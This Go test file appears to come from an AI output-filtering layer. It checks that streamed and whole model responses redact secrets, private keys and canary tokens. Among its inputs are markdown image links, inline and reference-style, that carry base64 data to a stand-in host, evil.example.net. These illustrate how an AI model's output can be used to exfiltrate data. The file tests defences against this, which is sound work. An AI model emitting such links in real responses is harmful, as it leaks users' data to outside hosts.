package outputguard

import (
	"os"
	"strings"
	"testing"

	"github.com/rampart-ai/rampart/conv"
	"github.com/rampart-ai/rampart/engine"
	canarylayer "github.com/rampart-ai/rampart/layers/canary"
)

func provisioned(t testing.TB, cfg Config) *Layer {
	t.Helper()
	l, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := l.Provision(&engine.Host{}); err != nil {
		t.Fatal(err)
	}
	if err := l.Validate(); err != nil {
		t.Fatal(err)
	}
	return l
}

// streamAll drives the layer with text cut at the given positions and
// returns what the client would see, and the last decision.
func streamAll(t testing.TB, l *Layer, tx *engine.Tx, chunks []string) (string, engine.Decision) {
	var b strings.Builder
	var last engine.Decision
	for i, c := range chunks {
		ev := &conv.StreamEvent{Seq: i, Deltas: []conv.Delta{conv.NewDelta(0, c, "choices.0.delta.content")}}
		d, err := l.OnStreamEvent(tx, ev)
		if err != nil {
			t.Fatal(err)
		}
		if d.Action == engine.Block {
			return b.String(), d
		}
		if d.Action != engine.Allow {
			last = d
		}
		for _, x := range ev.Deltas {
			b.WriteString(x.Text)
		}
	}
	ev := &conv.StreamEvent{Seq: len(chunks), Synthetic: true}
	d, err := l.OnStreamEnd(tx, ev)
	if err != nil {
		t.Fatal(err)
	}
	if d.Action == engine.Block {
		return b.String(), d
	}
	if d.Action != engine.Allow {
		last = d
	}
	for _, x := range ev.Deltas {
		b.WriteString(x.Text)
	}
	return b.String(), last
}

func whole(t testing.TB, l *Layer, tx *engine.Tx, text string) (string, engine.Decision) {
	resp := &conv.Response{Choices: []conv.Choice{{Message: conv.Message{Role: conv.RoleAssistant,
		Segments: []conv.Segment{conv.NewSegment(text, conv.SourceAssistant, "choices.0.message.content")}}}}}
	d, err := l.OnResponse(tx, resp)
	if err != nil {
		t.Fatal(err)
	}
	return resp.Choices[0].Message.Segments[0].Text, d
}

func mustRead(t testing.TB, p string) string {
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimRight(string(b), "\n")
}

const canary = "rc-7f3a9b2c1d5e"

// secretsIn are the values that must never reach the client.
func secretsIn(t testing.TB) []string {
	return strings.Split(mustRead(t, "testdata/stream_secrets.txt"), "\n")
}

func newTx() *engine.Tx {
	tx := &engine.Tx{}
	canarylayer.Set(tx, canary)
	return tx
}

func checkNoLeak(t *testing.T, what, got string, secrets []string) {
	t.Helper()
	for _, s := range secrets {
		// any 12-byte piece of a secret counts as a leak
		for i := 0; i+12 <= len(s); i++ {
			if strings.Contains(got, s[i:i+12]) {
				t.Fatalf("%s: leaked %q (piece of a secret) in %q", what, s[i:i+12], got)
			}
		}
	}
}

func TestStreamSplitEverywhere(t *testing.T) {
	l := provisioned(t, Config{Canary: ActRedact, Output: map[string]Action{"EMAIL_ADDRESS": ActRedact}})
	text := mustRead(t, "testdata/stream_input.txt")
	secrets := secretsIn(t)
	want, _ := whole(t, l, newTx(), text)
	checkNoLeak(t, "whole", want, secrets)
	if want == text {
		t.Fatal("whole response unchanged")
	}
	if !strings.Contains(want, "[CREDIT_CARD]") || !strings.Contains(want, "[EMAIL_ADDRESS]") || !strings.Contains(want, "[OPENAI_API_KEY]") || !strings.Contains(want, "[redacted]") {
		t.Fatalf("whole response: %q", want)
	}
	for cut := 0; cut <= len(text); cut++ {
		got, d := streamAll(t, l, newTx(), []string{text[:cut], text[cut:]})
		if d.Action == engine.Block {
			t.Fatalf("cut %d: blocked", cut)
		}
		checkNoLeak(t, "two chunks", got, secrets)
		if got != want {
			t.Fatalf("cut %d:\n got %q\nwant %q", cut, got, want)
		}
	}
	for size := 1; size <= len(text); size++ {
		var chunks []string
		for i := 0; i < len(text); i += size {
			chunks = append(chunks, text[i:min(i+size, len(text))])
		}
		got, _ := streamAll(t, l, newTx(), chunks)
		checkNoLeak(t, "chunks", got, secrets)
		if got != want {
			t.Fatalf("chunk size %d:\n got %q\nwant %q", size, got, want)
		}
	}
}

func TestStreamCleanTextUnchanged(t *testing.T) {
	l := provisioned(t, Config{})
	text := "The deployment guide explains how to configure the service. First install the CLI, then run the setup command.\nLogs rotate daily."
	for size := 1; size <= len(text); size += 3 {
		var chunks []string
		for i := 0; i < len(text); i += size {
			chunks = append(chunks, text[i:min(i+size, len(text))])
		}
		got, d := streamAll(t, l, &engine.Tx{}, chunks)
		if got != text || d.Action != engine.Allow {
			t.Fatalf("size %d: %q (%v)", size, got, d.Action)
		}
	}
}

func TestStreamHoldBounded(t *testing.T) {
	l := provisioned(t, Config{StreamWindow: 64})
	tx := &engine.Tx{}
	long := strings.Repeat("1234-5678 ", 200) // every token is "held"
	for i := 0; i < len(long); i += 7 {
		ev := &conv.StreamEvent{Deltas: []conv.Delta{conv.NewDelta(0, long[i:min(i+7, len(long))], "")}}
		if _, err := l.OnStreamEvent(tx, ev); err != nil {
			t.Fatal(err)
		}
		if p := l.streamOf(tx).choices[chanKey{}].pendingLen(); p > 64 {
			t.Fatalf("held %d bytes > window", p)
		}
	}
}

func TestStreamLongPEMSwallowed(t *testing.T) {
	l := provisioned(t, Config{})
	body := strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n", 20)
	text := "Here it is:\n-----BEGIN PRIVATE KEY-----\n" + body + "-----END PRIVATE KEY-----\nKeep it safe."
	for _, size := range []int{1, 5, 17, 64, 300} {
		var chunks []string
		for i := 0; i < len(text); i += size {
			chunks = append(chunks, text[i:min(i+size, len(text))])
		}
		got, _ := streamAll(t, l, &engine.Tx{}, chunks)
		if strings.Contains(got, "MIIEvQIBADAN") || strings.Contains(got, "AoIBAQC7") {
			t.Fatalf("size %d: key body leaked: %q", size, got)
		}
		if !strings.HasPrefix(got, "Here it is:") || !strings.HasSuffix(got, "Keep it safe.") {
			t.Fatalf("size %d: surrounding text changed: %q", size, got)
		}
	}
}

func TestStreamCanaryBlocks(t *testing.T) {
	l := provisioned(t, Config{})
	text := "ok so the token is " + canary + " and more"
	for cut := 0; cut <= len(text); cut++ {
		got, d := streamAll(t, l, newTx(), []string{text[:cut], text[cut:]})
		if d.Action != engine.Block {
			t.Fatalf("cut %d: not blocked (%q)", cut, got)
		}
		if strings.Contains(got, canary[:8]) {
			t.Fatalf("cut %d: canary emitted before block: %q", cut, got)
		}
	}
}

func TestStreamImageSplit(t *testing.T) {
	l := provisioned(t, Config{Links: LinksConfig{AllowedHosts: []string{"docs.example.com"}}})
	text := "See ![chart](https://evil.example.net/x.png?d=c2VjcmV0) and ![ok](https://docs.example.com/a.png) end"
	want := "See [image removed] and ![ok](https://docs.example.com/a.png) end"
	for cut := 0; cut <= len(text); cut++ {
		got, _ := streamAll(t, l, &engine.Tx{}, []string{text[:cut], text[cut:]})
		if got != want {
			t.Fatalf("cut %d: %q", cut, got)
		}
	}
}

// Reference-style images ("![alt][1]" with a "[1]: url" definition line)
// load from the definition's URL: a definition to a host that is not
// allowed is removed, whole or split anywhere across two events; one to an
// allowed host stays.
func TestReferenceStyleImage(t *testing.T) {
	l := provisioned(t, Config{Links: LinksConfig{AllowedHosts: []string{"docs.example.com"}}})
	text := "Here is the chart ![chart][1] and the docs ![d][2].\n\n[1]: https://evil.example.net/p.png?d=c2VjcmV0\n[2]: https://docs.example.com/a.png \"Docs\"\n"
	want := "Here is the chart ![chart][1] and the docs ![d][2].\n\n[reference removed]\n[2]: https://docs.example.com/a.png \"Docs\"\n"
	if got, _ := whole(t, l, &engine.Tx{}, text); got != want {
		t.Fatalf("whole: %q", got)
	}
	for cut := 0; cut <= len(text); cut++ {
		got, _ := streamAll(t, l, &engine.Tx{}, []string{text[:cut], text[cut:]})
		if got != want {
			t.Fatalf("cut %d: %q", cut, got)
		}
	}
	// Prose with "]:" that is not a definition line is left alone.
	prose := "The array a[i]: see above.\n"
	if got, _ := whole(t, l, &engine.Tx{}, prose); got != prose {
		t.Fatalf("prose changed: %q", got)
	}
}
